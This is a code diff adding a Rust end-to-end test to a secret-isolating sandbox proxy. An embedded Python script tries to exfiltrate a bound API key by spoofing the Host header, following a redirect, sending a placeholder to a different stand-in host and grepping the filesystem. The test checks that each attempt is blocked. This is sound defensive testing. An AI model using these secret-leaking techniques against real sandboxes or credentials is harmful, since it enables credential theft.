@@ -38,6 +38,12 @@ class H(http.server.BaseHTTPRequestHandler):
     def do_GET(self):
         with open(d + "/seen", "a") as f:
             f.write(self.requestline + "\n" + str(self.headers) + "\n")
+        if self.path == "/redirect":
+            self.send_response(302)
+            self.send_header("Location", "https://other.example.test/landed")
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+            return
         self.send_response(200)
         self.send_header("Content-Length", "3")
         self.end_headers()
@@ -364,6 +370,77 @@ print("proxy visible" if any(needle in c for c in cmdlines) else "proxy not visi
         );
     }
 
+    /// The value reaches its host as `Authorization: Bearer`, and nothing
+    /// else: not the sandbox (env, files, /proc), not a spoofed Host, not a
+    /// redirect's target, not another host through a placeholder.
+    #[test]
+    fn a_bound_secret_reaches_only_its_host_and_never_the_sandbox() {
+        const VALUE: &str = "sk-e2e-4f1d2c3b5a697887";
+        let env = TestEnv::new();
+        let upstream = start_upstream();
+        let config = upstream.config(&env, "");
+        let binding = format!("API_KEY={VALUE}:{API}");
+        let script = format!(
+            "{INJECTION}\nimport subprocess\n\
+             print('grep', subprocess.run(['grep', '-rlsF', '{VALUE}', '/', '--exclude-dir=sys'], capture_output=True).stdout)"
+        );
+        let out = env.run(&[
+            "run",
+            "-c",
+            config.to_str().unwrap(),
+            "--image",
+            PYTHON,
+            "-S",
+            &binding,
+            "--placeholder-secrets",
+            "-v",
+            &format!("{}:/upstream-ca.pem:ro", upstream.ca().display()),
+            "--",
+            "python3",
+            "-c",
+            &script,
+        ]);
+        assert_code(&out, 0);
+        let text = stdout(&out);
+        for line in [
+            "env True",
+            "urllib b'ok\\n'",
+            "spoofed 421",
+            "redirect b'ok\\n'",
+            "placeholder-elsewhere 403",
+            "grep b''",
+        ] {
+            assert!(text.lines().any(|l| l == line), "no {line:?} in:\n{text}");
+        }
+        let seen = upstream.seen();
+        let requests: Vec<&str> = seen.split("GET ").skip(1).collect();
+        let urllib = requests.iter().find(|r| r.starts_with("/urllib")).unwrap();
+        assert!(
+            urllib.contains(&format!("authorization: Bearer {VALUE}")),
+            "{urllib}"
+        );
+        // The placeholder in the query was swapped for the value (bound host).
+        assert!(
+            urllib.starts_with(&format!("/urllib?k={VALUE} ")),
+            "{urllib}"
+        );
+        let landed = requests.iter().find(|r| r.starts_with("/landed")).unwrap();
+        assert!(!landed.contains(VALUE), "{landed}");
+        assert!(
+            !seen.contains("/spoof") && !seen.contains("/plain"),
+            "{seen}"
+        );
+        // Every request that carries the value went to the bound host.
+        for request in requests.iter().filter(|r| r.contains(VALUE)) {
+            assert!(
+                request
+                    .to_ascii_lowercase()
+                    .contains("host: api.example.test"),
+                "{request}"
+            );
+        }
+    }
+
     /// `-S` end to end: the upstream gets the real value in the bound
     /// headers; the sandbox holds only placeholders (its variable, and the
     /// `--secret-file` with `--placeholder-secrets`); the placeholder aimed
@@ -497,6 +574,32 @@ print("found", found)
         }
     }
 }
+
+/// Inside a sandbox with `-S API_KEY=…:api.example.test`: Python's urllib
+/// (the test images have neither curl nor node; curl is driven through the
+/// proxy in agentkernel-egress's own tests) through the proxy.
+const INJECTION: &str = r#"
+import os, ssl, urllib.request, urllib.error
+# The system bundle (with the proxy's CA, via SSL_CERT_FILE) plus the test
+# upstream's own CA, for the redirect's unbound host (tunnelled, so the
+# sandbox verifies it itself).
+ctx = ssl.create_default_context()
+ctx.load_verify_locations("/upstream-ca.pem")
+urllib.request.install_opener(urllib.request.build_opener(urllib.request.HTTPSHandler(context=ctx)))
+ph = os.environ["API_KEY"]
+print("env", ph.startswith("AGENTKERNEL_PLACEHOLDER_"))
+print("urllib", urllib.request.urlopen("https://api.example.test/urllib?k=" + ph, timeout=10).read())
+r = urllib.request.Request("https://api.example.test/spoof", headers={"Host": "other.example.test"})
+try:
+    urllib.request.urlopen(r, timeout=10)
+except urllib.error.HTTPError as e:
+    print("spoofed", e.code)
+print("redirect", urllib.request.urlopen("https://api.example.test/redirect", timeout=10).read())
+try:
+    urllib.request.urlopen("http://other.example.test/plain?k=" + ph, timeout=10)
+except urllib.error.HTTPError as e:
+    print("placeholder-elsewhere", e.code)
+"#;
 
 mod engine_only {
     use super::*;
